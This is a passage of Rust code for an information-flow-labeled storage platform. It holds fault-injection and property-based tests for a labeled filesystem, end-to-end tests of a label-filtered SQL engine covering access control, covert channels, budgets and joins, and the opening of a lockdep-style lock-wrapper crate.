    let guard = w5_chaos::with_injector(Arc::clone(&inj));
    let err = fs.write(&subject, "/f", Bytes::from_static(b"v2-this-must-vanish")).unwrap_err();
    drop(guard);
    assert_eq!(err, FsError::Aborted);

    // All-or-nothing: data, labels and version are exactly as before.
    let (data, got_labels) = fs.read(&subject, "/f").unwrap();
    assert_eq!(data, Bytes::from_static(b"v1"));
    assert_eq!(got_labels, labels);
    let after = fs.stat(&subject, "/f").unwrap();
    assert_eq!(after, before, "an aborted write must not even bump the version");
}

#[test]
fn aborted_create_leaves_no_file_behind() {
    let fs = LabeledFs::new();
    let subject = owner(7);

    let inj = Injector::new(FaultPlan::new(1).with(Site::FsWrite, 1.0));
    let guard = w5_chaos::with_injector(Arc::clone(&inj));
    let err = fs
        .create(&subject, "/new", secret_pair(7), Bytes::from_static(b"ghost"))
        .unwrap_err();
    drop(guard);
    assert_eq!(err, FsError::Aborted);

    assert_eq!(fs.read(&subject, "/new").unwrap_err(), FsError::NotFound);
    assert_eq!(fs.file_count(), 0);
    assert_eq!(fs.bytes_used(), 0, "an aborted create must not charge quota");

    // And the path is still usable afterwards.
    fs.create(&subject, "/new", secret_pair(7), Bytes::from_static(b"real")).unwrap();
    assert_eq!(fs.read(&subject, "/new").unwrap().0, Bytes::from_static(b"real"));
}

#[test]
fn labels_never_downgrade_across_a_fault_storm() {
    // Hammer a labeled file with writes under a heavy abort rate; after
    // every attempt the file's secrecy must still be exactly the original
    // label. A single missing tag after any fault would be a
    // declassification performed by the failure path.
    let fs = LabeledFs::new();
    let subject = owner(9);
    let labels = secret_pair(9);
    fs.create(&subject, "/s", labels.clone(), Bytes::from_static(b"seed")).unwrap();

    let inj = Injector::new(FaultPlan::new(20070824).with(Site::FsWrite, 0.5));
    let guard = w5_chaos::with_injector(Arc::clone(&inj));
    let mut committed = 0u32;
    let mut aborted = 0u32;
    for i in 0..200u32 {
        match fs.write(&subject, "/s", Bytes::from(format!("gen-{i}"))) {
            Ok(()) => committed += 1,
            Err(FsError::Aborted) => aborted += 1,
            Err(e) => panic!("unexpected error under fault storm: {e:?}"),
        }
        let (_, got) = fs.read(&subject, "/s").unwrap();
        assert_eq!(got, labels, "write attempt {i} changed the file's labels");
    }
    drop(guard);
    assert!(committed > 0 && aborted > 0, "storm must exercise both paths");

    // Version counts exactly the committed writes — aborts left no trace.
    let meta = fs.stat(&subject, "/s").unwrap();
    assert_eq!(meta.version, 1 + committed as u64);
}
