//! Property-based tests: a model-checked filesystem and a
//! never-panicking SQL front end.

// The fs model branches on `contains_key` to assert *different outcomes*,
// not to guard an insert; the entry API would obscure the oracle.
#![allow(clippy::map_entry)]

use bytes::Bytes;
use proptest::prelude::*;
use std::collections::HashMap;
use w5_difc::LabelPair;
use w5_store::{FsError, LabeledFs, QueryCost, QueryMode, Subject};

/// Operations the fs model understands.
#[derive(Clone, Debug)]
enum FsOp {
    Create(u8, Vec<u8>),
    Write(u8, Vec<u8>),
    Read(u8),
    Delete(u8),
    List,
}

fn arb_op() -> impl Strategy<Value = FsOp> {
    prop_oneof![
        (0u8..8, proptest::collection::vec(any::<u8>(), 0..32)).prop_map(|(p, d)| FsOp::Create(p, d)),
        (0u8..8, proptest::collection::vec(any::<u8>(), 0..32)).prop_map(|(p, d)| FsOp::Write(p, d)),
        (0u8..8).prop_map(FsOp::Read),
        (0u8..8).prop_map(FsOp::Delete),
        Just(FsOp::List),
    ]
}

fn path(p: u8) -> String {
    format!("/model/f{p}")
}

proptest! {
    /// The labeled fs, driven with public labels by one subject, behaves
    /// exactly like a HashMap<path, bytes> model.
    #[test]
    fn fs_matches_model(ops in proptest::collection::vec(arb_op(), 1..60)) {
        let fs = LabeledFs::new();
        let subject = Subject::anonymous();
        let mut model: HashMap<String, Vec<u8>> = HashMap::new();

        for op in ops {
            match op {
                FsOp::Create(p, data) => {
                    let r = fs.create(&subject, &path(p), LabelPair::public(), Bytes::from(data.clone()));
                    if model.contains_key(&path(p)) {
                        prop_assert_eq!(r, Err(FsError::AlreadyExists));
                    } else {
                        prop_assert_eq!(r, Ok(()));
                        model.insert(path(p), data);
                    }
                }
                FsOp::Write(p, data) => {
                    let r = fs.write(&subject, &path(p), Bytes::from(data.clone()));
                    if model.contains_key(&path(p)) {
                        prop_assert_eq!(r, Ok(()));
                        model.insert(path(p), data);
                    } else {
                        prop_assert_eq!(r, Err(FsError::NotFound));
                    }
                }
                FsOp::Read(p) => {
                    let r = fs.read(&subject, &path(p));
                    match model.get(&path(p)) {
                        Some(data) => {
                            let (bytes, labels) = r.unwrap();
                            prop_assert_eq!(&bytes[..], &data[..]);
                            prop_assert!(labels.is_public());
                        }
                        None => prop_assert_eq!(r.map(|_| ()), Err(FsError::NotFound)),
                    }
                }
                FsOp::Delete(p) => {
                    let r = fs.delete(&subject, &path(p));
                    if model.remove(&path(p)).is_some() {
                        prop_assert_eq!(r, Ok(()));
                    } else {
                        prop_assert_eq!(r, Err(FsError::NotFound));
                    }
                }
                FsOp::List => {
                    let listed = fs.list(&subject, "/model").unwrap();
                    prop_assert_eq!(listed.len(), model.len());
                    let total: usize = model.values().map(Vec::len).sum();
                    prop_assert_eq!(fs.bytes_used(), total);
                }
            }
        }
    }

    /// The SQL front end must never panic, whatever string arrives —
    /// parse errors are fine, crashes are not. (Applications feed it
    /// arbitrary text.)
    #[test]
    fn sql_never_panics_on_arbitrary_input(input in ".{0,200}") {
        let db = w5_store::Database::new();
        let subject = Subject::anonymous();
        let _ = db.execute(
            &subject,
            QueryMode::Filtered,
            QueryCost::sandbox_default(),
            &LabelPair::public(),
            &input,
        );
    }

    /// Nor on structured-ish garbage built from SQL fragments.
    #[test]
    fn sql_never_panics_on_fragment_soup(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("SELECT"), Just("FROM"), Just("WHERE"), Just("*"), Just("("), Just(")"),
                Just("'a'"), Just("1"), Just(","), Just("="), Just("t"), Just("JOIN"),
                Just("ON"), Just("ORDER"), Just("BY"), Just("LIMIT"), Just("COUNT"),
                Just("NULL"), Just("--x"), Just("t.c"), Just("%"), Just("+")
            ],
            0..24,
        )
    ) {
        let sql = parts.join(" ");
        let db = w5_store::Database::new();
        let subject = Subject::anonymous();
        let _ = db.execute(
            &subject,
            QueryMode::Filtered,
            QueryCost::sandbox_default(),
            &LabelPair::public(),
            &sql,
        );
    }

    /// Statement atomicity: a failed multi-row INSERT leaves no rows.
    #[test]
    fn failed_insert_is_atomic(good in 1usize..6, typed_bad in any::<bool>()) {
        let db = w5_store::Database::new();
        let subject = Subject::anonymous();
        db.execute(&subject, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
            "CREATE TABLE t (n INTEGER)").unwrap();
        let mut values: Vec<String> = (0..good).map(|i| format!("({i})")).collect();
        values.push(if typed_bad { "('oops')".to_string() } else { "(1, 2)".to_string() });
        let sql = format!("INSERT INTO t VALUES {}", values.join(","));
        prop_assert!(db.execute(&subject, QueryMode::Filtered, QueryCost::unlimited(),
            &LabelPair::public(), &sql).is_err());
        let out = db.execute(&subject, QueryMode::Filtered, QueryCost::unlimited(),
            &LabelPair::public(), "SELECT COUNT(*) FROM t").unwrap();
        prop_assert_eq!(&out.rows[0].values[0], &w5_store::Value::Int(0));
    }
}
