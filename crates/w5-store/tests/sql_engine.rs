//! End-to-end tests of the labeled SQL engine: CRUD, label filtering,
//! naive-vs-filtered covert-channel semantics, budgets and atomicity.

use std::sync::Arc;
use w5_difc::{CapSet, Label, LabelPair, TagKind, TagRegistry};
use w5_store::{Database, QueryCost, QueryError, QueryMode, Subject, Value};

struct World {
    db: Database,
    /// Bob: owns his export tag (can declassify) and write tag (can endorse).
    bob: Subject,
    bob_rows: LabelPair,
    /// An unprivileged application.
    app: Subject,
    /// Alice, another user.
    alice: Subject,
    alice_rows: LabelPair,
}

fn world() -> World {
    let reg = Arc::new(TagRegistry::new());
    let (e_bob, mut bob_caps) = reg.create_tag(TagKind::ExportProtect, "export:bob");
    let (w_bob, w1) = reg.create_tag(TagKind::WriteProtect, "write:bob");
    bob_caps.extend(&w1);
    let (e_alice, mut alice_caps) = reg.create_tag(TagKind::ExportProtect, "export:alice");
    let (w_alice, w2) = reg.create_tag(TagKind::WriteProtect, "write:alice");
    alice_caps.extend(&w2);

    let bob = Subject::new(
        LabelPair::new(Label::empty(), Label::singleton(w_bob)),
        reg.effective(&bob_caps),
    );
    let alice = Subject::new(
        LabelPair::new(Label::empty(), Label::singleton(w_alice)),
        reg.effective(&alice_caps),
    );
    let app = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));

    World {
        db: Database::new(),
        bob,
        bob_rows: LabelPair::new(Label::singleton(e_bob), Label::singleton(w_bob)),
        app,
        alice,
        alice_rows: LabelPair::new(Label::singleton(e_alice), Label::singleton(w_alice)),
    }
}

fn run(
    w: &World,
    subj: &Subject,
    labels: &LabelPair,
    sql: &str,
) -> Result<w5_store::QueryOutput, QueryError> {
    w.db
        .execute(subj, QueryMode::Filtered, QueryCost::unlimited(), labels, sql)
}

#[test]
fn create_insert_select() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE photos (id INTEGER, title TEXT, private BOOLEAN)").unwrap();
    let out = run(
        &w,
        &w.bob,
        &w.bob_rows,
        "INSERT INTO photos (id, title, private) VALUES (1, 'cat', FALSE), (2, 'dog', TRUE)",
    )
    .unwrap();
    assert_eq!(out.affected, 2);
    let out = run(&w, &w.bob, &LabelPair::public(), "SELECT id, title FROM photos ORDER BY id").unwrap();
    assert_eq!(out.columns, vec!["id", "title"]);
    assert_eq!(out.rows.len(), 2);
    assert_eq!(out.rows[0].values, vec![Value::Int(1), Value::Text("cat".into())]);
    // The result carries Bob's labels: the platform will taint the reader.
    assert_eq!(out.labels, w.bob_rows);
}

#[test]
fn where_order_limit_like() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER, s TEXT)").unwrap();
    for i in 0..20 {
        run(
            &w,
            &w.bob,
            &w.bob_rows,
            &format!("INSERT INTO t (n, s) VALUES ({i}, 'item_{i}')"),
        )
        .unwrap();
    }
    let out = run(
        &w,
        &w.bob,
        &LabelPair::public(),
        "SELECT n FROM t WHERE n % 2 = 0 AND s LIKE 'item%' ORDER BY n DESC LIMIT 3",
    )
    .unwrap();
    let ns: Vec<i64> = out
        .rows
        .iter()
        .map(|r| match r.values[0] {
            Value::Int(i) => i,
            _ => panic!(),
        })
        .collect();
    assert_eq!(ns, vec![18, 16, 14]);
}

#[test]
fn aggregates() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)").unwrap();
    run(&w, &w.bob, &w.bob_rows, "INSERT INTO t VALUES (1), (2), (3), (NULL)").unwrap();
    let out = run(
        &w,
        &w.bob,
        &LabelPair::public(),
        "SELECT COUNT(*), COUNT(n), SUM(n), MIN(n), MAX(n) FROM t",
    )
    .unwrap();
    assert_eq!(
        out.rows[0].values,
        vec![Value::Int(4), Value::Int(3), Value::Int(6), Value::Int(1), Value::Int(3)]
    );
}

#[test]
fn filtered_mode_hides_other_users_rows() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE inbox (owner TEXT, body TEXT)").unwrap();
    run(&w, &w.bob, &w.bob_rows, "INSERT INTO inbox VALUES ('bob', 'bob secret')").unwrap();
    run(&w, &w.alice, &w.alice_rows, "INSERT INTO inbox VALUES ('alice', 'alice secret')").unwrap();

    // The unprivileged app *can* read both (export tags are raise-free), and
    // the result labels then carry BOTH users' tags.
    let out = run(&w, &w.app, &LabelPair::public(), "SELECT body FROM inbox").unwrap();
    assert_eq!(out.rows.len(), 2);
    assert_eq!(out.labels.secrecy.len(), 2);

    // Alice, whose capabilities only cover her own tag… also reads both:
    // export protection is about *export*, not read. But a subject already
    // carrying conflicting labels is a different story — covered in the
    // covert-channel test below via ReadProtect.
    let out = run(&w, &w.alice, &LabelPair::public(), "SELECT COUNT(*) FROM inbox").unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(2)]);
}

#[test]
fn read_protected_rows_are_invisible_and_uncountable() {
    let reg = Arc::new(TagRegistry::new());
    let (r, owner_caps) = reg.create_tag(TagKind::ReadProtect, "read:alice");
    let alice = Subject::new(LabelPair::public(), reg.effective(&owner_caps));
    let stranger = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));
    let db = Database::new();
    let secret = LabelPair::new(Label::singleton(r), Label::empty());

    db.execute(&alice, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE diary (day INTEGER, entry TEXT)").unwrap();
    db.execute(&alice, QueryMode::Filtered, QueryCost::unlimited(), &secret,
        "INSERT INTO diary VALUES (1, 'secret thoughts')").unwrap();

    // Filtered mode: the stranger sees an empty table — COUNT included.
    let out = db.execute(&stranger, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "SELECT COUNT(*) FROM diary").unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(0)]);
    let out = db.execute(&stranger, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "SELECT * FROM diary").unwrap();
    assert!(out.rows.is_empty());
    assert!(out.labels.is_public(), "empty result must not carry labels");

    // Naive mode: the count leaks — this is the §3.5 covert channel.
    let out = db.execute(&stranger, QueryMode::Naive, QueryCost::unlimited(), &LabelPair::public(),
        "SELECT COUNT(*) FROM diary").unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(1)]);

    // The owner sees her row either way.
    let out = db.execute(&alice, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "SELECT COUNT(*) FROM diary").unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(1)]);
}

#[test]
fn update_delete_respect_write_protection() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)").unwrap();
    run(&w, &w.bob, &w.bob_rows, "INSERT INTO t VALUES (1), (2)").unwrap();

    // The app can read Bob's rows but neither vandalize nor delete them.
    assert_eq!(
        run(&w, &w.app, &LabelPair::public(), "UPDATE t SET n = 0"),
        Err(QueryError::WriteDenied)
    );
    assert_eq!(
        run(&w, &w.app, &LabelPair::public(), "DELETE FROM t"),
        Err(QueryError::WriteDenied)
    );
    // And the failed statements changed nothing (atomicity).
    let out = run(&w, &w.bob, &LabelPair::public(), "SELECT SUM(n) FROM t").unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(3)]);

    // Bob can do both.
    assert_eq!(run(&w, &w.bob, &LabelPair::public(), "UPDATE t SET n = n * 10 WHERE n = 1").unwrap().affected, 1);
    assert_eq!(run(&w, &w.bob, &LabelPair::public(), "DELETE FROM t WHERE n = 2").unwrap().affected, 1);
    let out = run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t").unwrap();
    assert_eq!(out.rows.len(), 1);
    assert_eq!(out.rows[0].values, vec![Value::Int(10)]);
}

#[test]
fn update_skips_invisible_rows_silently() {
    let reg = Arc::new(TagRegistry::new());
    let (r, owner_caps) = reg.create_tag(TagKind::ReadProtect, "read:alice");
    let alice = Subject::new(LabelPair::public(), reg.effective(&owner_caps));
    let stranger = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));
    let db = Database::new();
    let secret = LabelPair::new(Label::singleton(r), Label::empty());
    db.execute(&alice, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE t (n INTEGER)").unwrap();
    db.execute(&alice, QueryMode::Filtered, QueryCost::unlimited(), &secret,
        "INSERT INTO t VALUES (1)").unwrap();
    db.execute(&stranger, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "INSERT INTO t VALUES (2)").unwrap();
    // The stranger's blanket UPDATE touches only its own visible row — no
    // error, no effect on the hidden row, affected = 1.
    let out = db.execute(&stranger, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "UPDATE t SET n = 99").unwrap();
    assert_eq!(out.affected, 1);
    let out = db.execute(&alice, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "SELECT n FROM t ORDER BY n").unwrap();
    assert_eq!(out.rows.len(), 2);
    assert_eq!(out.rows[0].values, vec![Value::Int(1)], "hidden row untouched");
}

#[test]
fn insert_requires_writable_labels() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)").unwrap();
    // The app cannot claim Bob's integrity tag on rows it writes.
    assert_eq!(
        run(&w, &w.app, &w.bob_rows, "INSERT INTO t VALUES (1)"),
        Err(QueryError::WriteDenied)
    );
    // It can write unprotected rows.
    assert!(run(&w, &w.app, &LabelPair::public(), "INSERT INTO t VALUES (1)").is_ok());
}

#[test]
fn scan_budget_aborts_pathological_queries() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE big (n INTEGER)").unwrap();
    let values: Vec<String> = (0..500).map(|i| format!("({i})")).collect();
    run(
        &w,
        &w.bob,
        &w.bob_rows,
        &format!("INSERT INTO big VALUES {}", values.join(", ")),
    )
    .unwrap();
    let tight = QueryCost { max_rows_scanned: 100 };
    let err = w
        .db
        .execute(&w.bob, QueryMode::Filtered, tight, &LabelPair::public(), "SELECT COUNT(*) FROM big")
        .unwrap_err();
    assert_eq!(err, QueryError::BudgetExhausted);
    // A LIMITed scan still pays full scan cost (no index), so it aborts too.
    let err = w
        .db
        .execute(&w.bob, QueryMode::Filtered, tight, &LabelPair::public(), "DELETE FROM big")
        .unwrap_err();
    assert_eq!(err, QueryError::BudgetExhausted);
    // With an adequate budget it succeeds and reports cost.
    let out = run(&w, &w.bob, &LabelPair::public(), "SELECT COUNT(*) FROM big").unwrap();
    assert_eq!(out.scanned, 500);
}

#[test]
fn type_checking() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER, s TEXT)").unwrap();
    assert!(matches!(
        run(&w, &w.bob, &w.bob_rows, "INSERT INTO t (n) VALUES ('oops')"),
        Err(QueryError::TypeMismatch { .. })
    ));
    run(&w, &w.bob, &w.bob_rows, "INSERT INTO t (n, s) VALUES (1, 'ok')").unwrap();
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "UPDATE t SET n = 'bad'"),
        Err(QueryError::TypeMismatch { .. })
    ));
}

#[test]
fn errors_for_missing_things() {
    let w = world();
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM nope"),
        Err(QueryError::NoSuchTable(_))
    ));
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)").unwrap();
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT zz FROM t"),
        Err(QueryError::NoSuchColumn(_))
    ));
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t WHERE zz = 1"),
        Err(QueryError::NoSuchColumn(_))
    ));
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)"),
        Err(QueryError::TableExists(_))
    ));
}

#[test]
fn drop_table_requires_write_on_all_rows() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)").unwrap();
    run(&w, &w.bob, &w.bob_rows, "INSERT INTO t VALUES (1)").unwrap();
    assert_eq!(
        run(&w, &w.app, &LabelPair::public(), "DROP TABLE t"),
        Err(QueryError::WriteDenied)
    );
    assert!(run(&w, &w.bob, &LabelPair::public(), "DROP TABLE t").is_ok());
    assert!(w.db.table_names().is_empty());
}

#[test]
fn division_by_zero_and_overflow_are_errors_not_panics() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "INSERT INTO t VALUES (1)").unwrap();
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t WHERE n / 0 = 1"),
        Err(QueryError::Eval(_))
    ));
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t WHERE n = 9223372036854775807 + 1"),
        Err(QueryError::Eval(_))
    ));
}

#[test]
fn null_semantics_in_where() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t (n INTEGER)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "INSERT INTO t VALUES (1), (NULL)").unwrap();
    // NULL = NULL is not true.
    let out = run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t WHERE n = NULL").unwrap();
    assert!(out.rows.is_empty());
    let out = run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t WHERE n IS NULL").unwrap();
    assert_eq!(out.rows.len(), 1);
    let out = run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t WHERE n IS NOT NULL").unwrap();
    assert_eq!(out.rows.len(), 1);
}

#[test]
fn inner_join_basics() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE users (id INTEGER, name TEXT)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE posts (author INTEGER, title TEXT)").unwrap();
    run(&w, &w.bob, &LabelPair::public(),
        "INSERT INTO users VALUES (1, 'bob'), (2, 'alice')").unwrap();
    run(&w, &w.bob, &LabelPair::public(),
        "INSERT INTO posts VALUES (1, 'hello'), (1, 'again'), (2, 'hi'), (3, 'orphan')").unwrap();

    let out = run(
        &w,
        &w.bob,
        &LabelPair::public(),
        "SELECT users.name, posts.title FROM users JOIN posts ON users.id = posts.author \
         ORDER BY posts.title",
    )
    .unwrap();
    assert_eq!(out.columns, vec!["users.name", "posts.title"]);
    let rows: Vec<(String, String)> = out
        .rows
        .iter()
        .map(|r| (r.values[0].render(), r.values[1].render()))
        .collect();
    assert_eq!(
        rows,
        vec![
            ("bob".to_string(), "again".to_string()),
            ("bob".to_string(), "hello".to_string()),
            ("alice".to_string(), "hi".to_string()),
        ]
    );
}

#[test]
fn join_with_where_and_aggregates() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE a (k INTEGER)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE b (k INTEGER, v INTEGER)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "INSERT INTO a VALUES (1), (2), (3)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "INSERT INTO b VALUES (1, 10), (2, 20), (2, 30)").unwrap();
    let out = run(
        &w,
        &w.bob,
        &LabelPair::public(),
        "SELECT COUNT(*), SUM(b.v) FROM a INNER JOIN b ON a.k = b.k WHERE b.v > 10",
    )
    .unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(2), Value::Int(50)]);
}

#[test]
fn join_labels_combine_and_filter() {
    // The labeled heart of the join: combined rows carry both owners'
    // tags, and rows invisible to the subject never join.
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE left_t (k INTEGER)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE right_t (k INTEGER, s TEXT)").unwrap();
    run(&w, &w.bob, &w.bob_rows, "INSERT INTO left_t VALUES (1)").unwrap();
    run(&w, &w.alice, &w.alice_rows, "INSERT INTO right_t VALUES (1, 'alice data')").unwrap();

    let out = run(
        &w,
        &w.app,
        &LabelPair::public(),
        "SELECT right_t.s FROM left_t JOIN right_t ON left_t.k = right_t.k",
    )
    .unwrap();
    assert_eq!(out.rows.len(), 1);
    // The result carries BOTH export tags.
    assert_eq!(out.labels.secrecy.len(), 2);

    // Under read-protection, invisible rows cannot join at all.
    let reg = std::sync::Arc::new(w5_difc::TagRegistry::new());
    let (r, owner_caps) = reg.create_tag(w5_difc::TagKind::ReadProtect, "read:x");
    let owner = Subject::new(LabelPair::public(), reg.effective(&owner_caps));
    let stranger = Subject::new(LabelPair::public(), reg.effective(&w5_difc::CapSet::empty()));
    let db = w5_store::Database::new();
    let secret = LabelPair::new(w5_difc::Label::singleton(r), w5_difc::Label::empty());
    db.execute(&owner, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE l (k INTEGER)").unwrap();
    db.execute(&owner, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE r2 (k INTEGER)").unwrap();
    db.execute(&owner, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "INSERT INTO l VALUES (1)").unwrap();
    db.execute(&owner, QueryMode::Filtered, QueryCost::unlimited(), &secret,
        "INSERT INTO r2 VALUES (1)").unwrap();
    let out = db.execute(&stranger, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "SELECT COUNT(*) FROM l JOIN r2 ON l.k = r2.k").unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(0)], "hidden rows never join");
    let out = db.execute(&owner, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "SELECT COUNT(*) FROM l JOIN r2 ON l.k = r2.k").unwrap();
    assert_eq!(out.rows[0].values, vec![Value::Int(1)]);
}

#[test]
fn join_budget_bounds_pair_count() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE j1 (k INTEGER)").unwrap();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE j2 (k INTEGER)").unwrap();
    let vals: Vec<String> = (0..100).map(|i| format!("({i})")).collect();
    run(&w, &w.bob, &LabelPair::public(), &format!("INSERT INTO j1 VALUES {}", vals.join(","))).unwrap();
    run(&w, &w.bob, &LabelPair::public(), &format!("INSERT INTO j2 VALUES {}", vals.join(","))).unwrap();
    // 100x100 pairs exceed a 5000-row budget: the nested loop never runs.
    let tight = QueryCost { max_rows_scanned: 5_000 };
    let err = w.db
        .execute(&w.bob, QueryMode::Filtered, tight, &LabelPair::public(),
            "SELECT COUNT(*) FROM j1 JOIN j2 ON j1.k = j2.k")
        .unwrap_err();
    assert_eq!(err, QueryError::BudgetExhausted);
}

#[test]
fn join_errors() {
    let w = world();
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t1 (k INTEGER)").unwrap();
    // Unknown join table.
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t1 JOIN ghost ON t1.k = ghost.k"),
        Err(QueryError::NoSuchTable(_))
    ));
    run(&w, &w.bob, &LabelPair::public(), "CREATE TABLE t2 (k INTEGER)").unwrap();
    // Unqualified / wrong-table ON columns.
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t1 JOIN t2 ON k = t2.k"),
        Err(QueryError::NoSuchColumn(_))
    ));
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t1 JOIN t2 ON t2.k = t2.k"),
        Err(QueryError::NoSuchColumn(_))
    ));
    // Self-joins are out of scope.
    assert!(matches!(
        run(&w, &w.bob, &LabelPair::public(), "SELECT * FROM t1 JOIN t1 ON t1.k = t1.k"),
        Err(QueryError::Eval(_))
    ));
}
