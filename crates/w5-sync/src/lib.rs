//! Classed lock wrappers with lockdep-style acquisition recording.
//!
//! Every `Mutex`/`RwLock` in the workspace is constructed through this
//! crate with a static **lock class** (`kernel.shard`, `store.partition`,
//! `obs.ledger`, …) and an instance index (shard number, partition slot).
//! The wrappers behave exactly like the underlying `parking_lot` locks;
//! in addition, each acquisition consults a thread-local held-lock stack
//! and — when recording is enabled — writes the acquisition facts into the
//! current [`lockdep::Recorder`]:
//!
//! * a **cross-class edge** `(held-class, acquired-class, site)` for every
//!   lock already held when a lock of a *different* class is taken,
//! * a **same-class event** `(class, held-index, acquired-index, site)`
//!   when a second lock of the *same* class is taken (the `TwoShards`
//!   lower-index-first path must keep these strictly ascending),
//! * a **blocking event** when [`lockdep::blocking`] is reached with any
//!   classed lock held.
//!
//! The recorded [`lockdep::ObservedRun`] is analyzed by `w5-lockdep`
//! against the declared class-rank manifest (lints W5D001–W5D006) and by
//! the `w5deadlock` CLI. Recording costs one relaxed atomic load per
//! acquisition when disabled; the held stack itself is always maintained
//! so recording can be switched on mid-run.

#![forbid(unsafe_code)]

pub mod lockdep;

use lockdep::HeldToken;

/// A mutual-exclusion lock carrying a static lock class.
pub struct Mutex<T: ?Sized> {
    class: &'static str,
    index: u32,
    inner: parking_lot::Mutex<T>,
}

/// Guard returned by [`Mutex::lock`]. Releases the lockdep held-stack
/// entry (by token identity, so out-of-LIFO guard drops are fine) and the
/// underlying lock on drop.
pub struct MutexGuard<'a, T: ?Sized> {
    inner: parking_lot::MutexGuard<'a, T>,
    _token: HeldToken,
}

impl<T> Mutex<T> {
    /// Create a mutex of class `class`, instance index 0.
    pub const fn new(class: &'static str, value: T) -> Self {
        Mutex::with_index(class, 0, value)
    }

    /// Create a mutex of class `class` at instance `index`. Same-class
    /// nesting must acquire strictly ascending indexes (lint W5D002).
    pub const fn with_index(class: &'static str, index: u32, value: T) -> Self {
        Mutex { class, index, inner: parking_lot::Mutex::new(value) }
    }

    /// Consume the mutex, returning the inner value.
    pub fn into_inner(self) -> T {
        self.inner.into_inner()
    }
}

impl<T: ?Sized> Mutex<T> {
    /// The lock class this mutex was declared with.
    pub fn class(&self) -> &'static str {
        self.class
    }

    /// The instance index within the class.
    pub fn index(&self) -> u32 {
        self.index
    }

    /// Acquire the lock, blocking until available.
    #[track_caller]
    pub fn lock(&self) -> MutexGuard<'_, T> {
        let token = lockdep::acquire(self.class, self.index);
        MutexGuard { inner: self.inner.lock(), _token: token }
    }

    /// Attempt to acquire the lock without blocking. A successful try
    /// records the same acquisition facts as [`Mutex::lock`].
    #[track_caller]
    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        let inner = self.inner.try_lock()?;
        let token = lockdep::acquire(self.class, self.index);
        Some(MutexGuard { inner, _token: token })
    }

    /// Mutable access without locking (requires exclusive borrow).
